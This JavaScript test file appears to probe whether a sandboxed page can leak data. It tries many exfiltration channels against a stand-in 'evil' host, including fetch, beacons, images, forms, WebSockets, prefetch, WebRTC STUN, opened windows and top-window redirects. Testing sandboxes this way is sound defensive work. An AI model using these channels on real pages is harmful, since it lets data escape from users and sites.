import { frameAt, loaded, make, probe, wait } from './probes.js'

/* To the world outside. What arrived there is seen there: stage.arrived(name). */

const sent = async (name, attempt, ms = 500) => {
  await Promise.resolve(attempt(`${stage.evil}/${name}?secret=1`)).catch(() => undefined)
  await wait(ms)
  return stage.arrived(name)
}

probe('sends data away by fetch', () => sent('fetch', (url) => fetch(url, { mode: 'no-cors' })))

probe('sends data away by fetch from the document of the player', () =>
  sent('player-fetch', (url) => top.fetch(url, { mode: 'no-cors' })),
)

probe('sends data away by a beacon', () => sent('beacon', (url) => navigator.sendBeacon(url, 'x')))

probe('sends data away in the address of a picture', () =>
  sent('image', (src) => loaded(make('img', { src }))),
)

probe('sends data away in the address of a style sheet', () =>
  sent('style', (href) => loaded(make('link', { rel: 'stylesheet', href }))),
)

probe('loads a script from another server', () =>
  sent('script', (src) => loaded(make('script', { src }))),
)

probe('sends data away by a form', () =>
  sent('form', (action) => {
    const form = make('form', { action, target: '_blank' })
    document.body.append(form)
    form.submit()
  }),
)

probe('sends data away by a WebSocket', () =>
  sent('socket', (url) => new WebSocket(url.replace('http', 'ws')) && undefined),
)

probe('sends data away by prefetching', () =>
  sent('prefetch', (href) => loaded(make('link', { rel: 'prefetch', href }))),
)

probe('sends data away in a frame of its own', () => sent('frame', (url) => frameAt(url)))

probe('sends data away in a frame that the player holds', () =>
  sent('player-frame', (src) => {
    top.document.body.append(Object.assign(top.document.createElement('iframe'), { src }))
  }),
)

probe('sends data away in the names that it connects to (preconnect)', async () => {
  document.head.append(make('link', { rel: 'preconnect', href: stage.quietEvil }))
  await wait(800)
  return stage.isConnected()
})

probe('sends data away in the address of a window that it opens', () =>
  sent('window', (url) => open(url) && undefined, 800),
)

probe('sends data away in the address of a window that the player opens', () =>
  sent('player-window', (url) => top.open(url) && undefined, 800),
)

probe('sends data away in a window of its own that it leads elsewhere', () =>
  sent(
    'own-window',
    async (url) => {
      const opened = open('empty.html')
      await wait(500)
      opened.location.href = url
    },
    800,
  ),
)

probe('sends data away by a link to a new tab', () =>
  sent('tab', (href) => make('a', { href, target: '_blank', rel: 'noopener' }).click(), 800),
)

probe('tells another server its address (Referer)', () => stage.referrer('window'))

probe('sends data away by leading its own frame elsewhere', async () => {
  const frame = await frameAt('empty.html')
  frame.contentWindow.location.href = `${stage.evil}/self`
  await wait(600)
  return stage.arrived('self')
})

/* What ends the page, or the whole window, is tried in a tab of its own each: `leave[name]()`. */

const connect = async ({ RTCPeerConnection }) => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stage.stun}` }] })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
}

const address = (name) => `${stage.evil}/${name}?secret=1`

window.leave = {
  rtc: () => connect(window),
  'rtc-fresh': async () => {
    const frame = await frameAt('about:blank')
    return connect(frame.contentWindow)
  },
  'rtc-player': () => connect(top),
  top: () => {
    top.location.href = address('top')
  },
  'top-link': () => {
    const link = top.document.createElement('a')
    link.href = address('top-link')
    top.document.body.append(link)
    link.click()
  },
  'top-meta': () => {
    const meta = top.document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${address('top-meta')}`
    top.document.head.append(meta)
  },
  'top-page': () => {
    const text = `<script>location = ${JSON.stringify(address('top-page'))}</script>`
    top.location = URL.createObjectURL(new Blob([text], { type: 'text/html' }))
  },
}
